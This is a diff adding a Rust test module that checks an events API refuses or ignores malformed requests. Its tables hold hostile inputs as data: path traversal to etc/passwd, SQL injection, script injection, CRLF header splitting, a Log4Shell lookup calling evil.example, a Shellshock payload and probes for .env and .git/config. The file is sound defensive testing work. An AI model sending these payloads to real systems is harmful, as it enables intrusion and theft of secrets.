@@ -1,0 +1,227 @@
+//! Headers, paths and queries.
+
+use axum::http::Method;
+use tests::sample;
+
+use crate::case::{CREATE, Case, JOIN, table};
+
+pub fn refused() -> Vec<Case> {
+    let create = |name: String, code| Case::event(name, &sample::event(), code);
+    [
+        table(KEYS, "C_003", |name, key, code| {
+            create(format!("key {name}"), code).header("Idempotency-Key", key)
+        }),
+        table(MANAGERS, "AM_001", |name, id, code| {
+            create(format!("manager {name}"), code).without("x-api-managerId").header("x-api-managerId", id)
+        }),
+        table(MEDIA_TYPES, "C_004", |name, media_type, code| {
+            let join = Case::join(format!("member as {name}"), sample::member().to_string(), code);
+            join.without("Content-Type").header("Content-Type", media_type)
+        }),
+        table(EVENTS, "E_002", |name, id, code| {
+            Case::get(format!("event {name}"), format!("{CREATE}/{id}"), code)
+        }),
+        table(EVENTS, "E_002", |name, id, code| {
+            Case::new(format!("deletion {name}"), Method::DELETE, format!("{CREATE}/{id}"), code)
+        }),
+        table(PATHS, "C_008", |name, path, code| Case::get(format!("path {name}"), path, code)),
+        table(LIMITS, "C_003", |name, limit, code| {
+            Case::get(format!("limit {name}"), format!("{CREATE}?limit={limit}"), code)
+        }),
+        table(CURSORS, "C_003", |name, cursor, code| {
+            Case::get(format!("cursor {name}"), format!("{CREATE}?cursor={cursor}"), code)
+        }),
+        [Method::PUT, Method::PATCH, Method::DELETE, Method::TRACE]
+            .map(|method| Case::new(format!("method {method}"), method, CREATE, "C_008"))
+            .to_vec(),
+        vec![
+            create("key twice".to_owned(), "C_003")
+                .header("Idempotency-Key", "a")
+                .header("Idempotency-Key", "b"),
+            create("no manager".to_owned(), "AM_001").without("x-api-managerId"),
+            Case::join("member of no type", sample::member().to_string(), "C_004").without("Content-Type"),
+            Case::get("cursor of 8 KB", format!("{CREATE}?cursor={}", "A".repeat(8_000)), "C_003"),
+            Case::get("query of 9 KB", format!("{CREATE}?a={}", "A".repeat(9_000)), "C_003"),
+            Case::get("event of 8 KB", format!("{CREATE}/{}", "0".repeat(8_000)), "E_002"),
+        ],
+    ]
+    .concat()
+}
+
+pub fn accepted() -> Vec<Case> {
+    [
+        table(TAGS, "0", |name, tags, code| {
+            Case::get(format!("tag {name}"), CREATE, code).header("If-None-Match", tags)
+        }),
+        table(PASSED_OVER, "0", |name, (header, value), code| {
+            let join = Case::new(format!("header {name}"), Method::POST, JOIN, code);
+            let join = join.header("Content-Type", "application/json").header(header, value);
+            Case { body: sample::member().to_string().into_bytes(), ..join }
+        }),
+        vec![Case::get("three hundred parameters", format!("{CREATE}?{}", "a[]=1&".repeat(300)), "0")],
+        vec![Case::get("query of a prototype", format!("{CREATE}?__proto__[limit]=0&constructor=a"), "0")],
+        vec![
+            Case::new("the other name of a method", Method::POST, JOIN, "0")
+                .header("Content-Type", "application/json")
+                .header("X-HTTP-Method-Override", "DELETE"),
+        ]
+        .into_iter()
+        .map(|case| Case { body: sample::member().to_string().into_bytes(), ..case })
+        .collect(),
+    ]
+    .concat()
+}
+
+const KEYS: &[(&str, &[u8])] = &[
+    ("of nothing", b""),
+    ("of a space inside", b"a b"),
+    ("of a tab inside", b"a\tb"),
+    ("of two in one header", b"a, b"),
+    ("of 65 characters", &[b'a'; 65]),
+    ("of 8 KB", &[b'a'; 8_000]),
+    ("beyond ASCII", "가".as_bytes()),
+    ("of no UTF-8", b"\xFF\xFE"),
+    ("of a next line", b"a\xC2\x85b"),
+    ("of a header to come", "a\u{10a}Set-Cookie:".as_bytes()),
+];
+
+const MANAGERS: &[(&str, &str)] = &[
+    ("of nothing", ""),
+    ("of a word", "null"),
+    ("without hyphens", "6f1dd7b46a244c539f5e0d1c8a3b2e11"),
+    ("in braces", "{6f1dd7b4-6a24-4c53-9f5e-0d1c8a3b2e11}"),
+    ("as a URN", "urn:uuid:6f1dd7b4-6a24-4c53-9f5e-0d1c8a3b2e11"),
+    ("of one digit less", "6f1dd7b4-6a24-4c53-9f5e-0d1c8a3b2e1"),
+    ("of one digit more", "6f1dd7b4-6a24-4c53-9f5e-0d1c8a3b2e111"),
+    ("of a letter that is no digit", "6f1dd7b4-6a24-4c53-9f5e-0d1c8a3b2e1g"),
+    ("with hyphens elsewhere", "6f1dd7b46-a24-4c53-9f5e-0d1c8a3b2e11"),
+    ("of two", "6f1dd7b4-6a24-4c53-9f5e-0d1c8a3b2e11, 6f1dd7b4-6a24-4c53-9f5e-0d1c8a3b2e11"),
+    ("of a path", "../../../../../../../../../../../../"),
+    ("of a key", "6f1dd7b4-6a24-4c53-9f5e-0d1c8a3b2e11#a"),
+    ("of a statement", "' OR '1'='1"),
+    ("in full width", "６f1dd7b4-6a24-4c53-9f5e-0d1c8a3b2e11"),
+];
+
+const MEDIA_TYPES: &[(&str, &str)] = &[
+    ("text", "text/plain"),
+    ("JSON of a text", "text/json"),
+    ("JSON with a space", "application/ json"),
+    ("JSON with a suffix", "application/json-patch+json"),
+    ("JSON of a vendor", "application/vnd.api+json"),
+    ("a script", "application/javascript"),
+    ("XML", "application/xml"),
+    ("a form of a page", "application/x-www-form-urlencoded"),
+    ("a form", "multipart/form-data; boundary=a"),
+    ("JSON after another", "text/plain, application/json"),
+    ("JSON before another", "application/json, text/plain"),
+    ("anything", "*/*"),
+    ("nothing", ""),
+];
+
+const EVENTS: &[(&str, &str)] = &[
+    ("of a path upwards", "..%2f..%2fetc%2fpasswd"),
+    ("of a path upwards on Windows", "..%5c..%5ca"),
+    ("of a path from the root", "%2fetc%2fpasswd"),
+    ("of a NUL", "%00"),
+    ("of a line", "a%0d%0aSet-Cookie:%20b=c"),
+    ("of a star", "*"),
+    ("of its own place", "%7BeventId%7D"),
+    ("of markup", "%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
+    ("of a statement", "'%20OR%20'1'='1"),
+    ("of a key", "EVENT%231"),
+    ("of overlong UTF-8", "%c0%af"),
+    ("of no UTF-8", "%ff"),
+    ("of half a percent", "%2"),
+    ("of other digits", "%EF%BC%90196a1b2-0000-7000-8000-00000000abcd"),
+    ("in braces", "%7B0196a1b2-0000-7000-8000-00000000abcd%7D"),
+    ("without hyphens", "0196a1b20000700080000000000abcd0"),
+    ("as a URN", "urn:uuid:0196a1b2-0000-7000-8000-00000000abcd"),
+    ("and a space", "0196a1b2-0000-7000-8000-00000000abcd%20"),
+    ("and a NUL", "0196a1b2-0000-7000-8000-00000000abcd%00"),
+    ("and a parameter", "0196a1b2-0000-7000-8000-00000000abcd;a=b"),
+    ("and an extension", "0196a1b2-0000-7000-8000-00000000abcd.json"),
+];
+
+const PATHS: &[(&str, &str)] = &[
+    ("with a slash at its end", "/api/v1/events/"),
+    ("with a slash in percents", "/api/v1/events%2f"),
+    ("with slashes twice", "//api//v1//events"),
+    ("in another case", "/API/v1/events"),
+    ("in another version", "/api/v2/events"),
+    ("with a parameter", "/api/v1/events;a=b"),
+    ("with an extension", "/api/v1/events.json"),
+    ("with a NUL", "/api/v1/events%00"),
+    ("of a file", "/.env"),
+    ("of a repository", "/.git/config"),
+    ("of a console", "/actuator/env"),
+    ("of a picture of another name", "/api/v1/events/0196a1b2-0000-7000-8000-00000000abcd/seat-map.png"),
+    ("of a poster upwards", "/upload/..%2f..%2fcursor-key"),
+    ("of a poster upwards on Windows", "/upload/..%5c..%5ccursor-key"),
+    ("of a poster with a NUL", "/upload/a%00.png"),
+    ("of a poster that is hidden", "/upload/.bucket"),
+    ("of a poster of no UTF-8", "/upload/%ff.png"),
+    ("of a poster of another bucket", "/upload/%2fetc%2fpasswd"),
+    ("of a poster from a drive", "/upload/C:%5ca.png"),
+    ("of no poster", "/upload/"),
+];
+
+const LIMITS: &[(&str, &str)] = &[
+    ("of nothing", ""),
+    ("of 0", "0"),
+    ("of 101", "101"),
+    ("below nothing", "-1"),
+    ("with a plus", "%2B1"),
+    ("with a space", "%201"),
+    ("with an exponent", "1e1"),
+    ("in hexadecimal digits", "0x10"),
+    ("of a fraction", "1.0"),
+    ("of no number", "NaN"),
+    ("beyond every number", "1e999999"),
+    ("of more bits than there are", "18446744073709551617"),
+    ("in Devanagari", "%E0%A5%A7"),
+    ("in full width", "%EF%BC%91"),
+    ("with a NUL", "1%00"),
+    ("of markup", "%3Cscript%3E"),
+];
+
+const CURSORS: &[(&str, &str)] = &[
+    ("of nothing", ""),
+    ("of a word", "next"),
+    ("of a number", "1"),
+    ("of an id", "0196a1b2-0000-7000-8000-00000000abcd"),
+    ("of an id and no tag", "AZahsgAAcACAAAAAAACrzQ"),
+    ("of an id and a tag of nothing", "AZahsgAAcACAAAAAAACrzQAAAAAAAAAAAAAAAAAAAAA"),
+    ("in another alphabet", "%2B%2F%2B%2F%2B%2F%2B%2F"),
+    ("with padding", "AAAA%3D%3D"),
+    ("of JSON", "%7B%22pk%22%3A%22EVENT%22%7D"),
+    ("of a path", "..%2F..%2Fa"),
+    ("of a NUL", "%00"),
+    ("of no UTF-8", "%ff%fe"),
+    ("of a line", "a%0d%0ab"),
+];
+
+/// What names no state that a caller could have.
+const TAGS: &[(&str, &[u8])] = &[
+    ("of nothing", b""),
+    ("without quotes", b"a"),
+    ("that is not closed", b"\"a"),
+    ("of a thousand quotes", &[b'"'; 1_000]),
+    ("of a thousand commas", &[b','; 1_000]),
+    ("of no UTF-8", b"\"\xFF\""),
+    ("of a star in quotes", b"\"*\""),
+];
+
+const PASSED_OVER: &[(&str, (&str, &str))] = &[
+    ("of another client", ("X-Forwarded-For", "127.0.0.1, <script>, ../../a")),
+    ("of another host", ("X-Forwarded-Host", "evil.example")),
+    ("of another path", ("X-Original-URL", "/admin")),
+    ("of another scheme", ("X-Forwarded-Proto", "javascript")),
+    ("of a lookup", ("User-Agent", "${jndi:ldap://evil.example/a}")),
+    ("of a shell", ("User-Agent", "() { :; }; touch a")),
+    ("of markup", ("Referer", "https://evil.example/<script>alert(1)</script>")),
+    ("of a cookie", ("Cookie", "a=b; __Host-a=../../a")),
+    ("of a trace", ("X-Amzn-Trace-Id", "Root=1-../../a;Sampled=9")),
+    ("of an id of the request", ("x-request-id", "a\tb")),
+    ("of an origin that is none", ("Origin", "null")),
+    ("of a range", ("Range", "bytes=0-0,0-0,0-0,0-0,0-0,0-0")),
+];
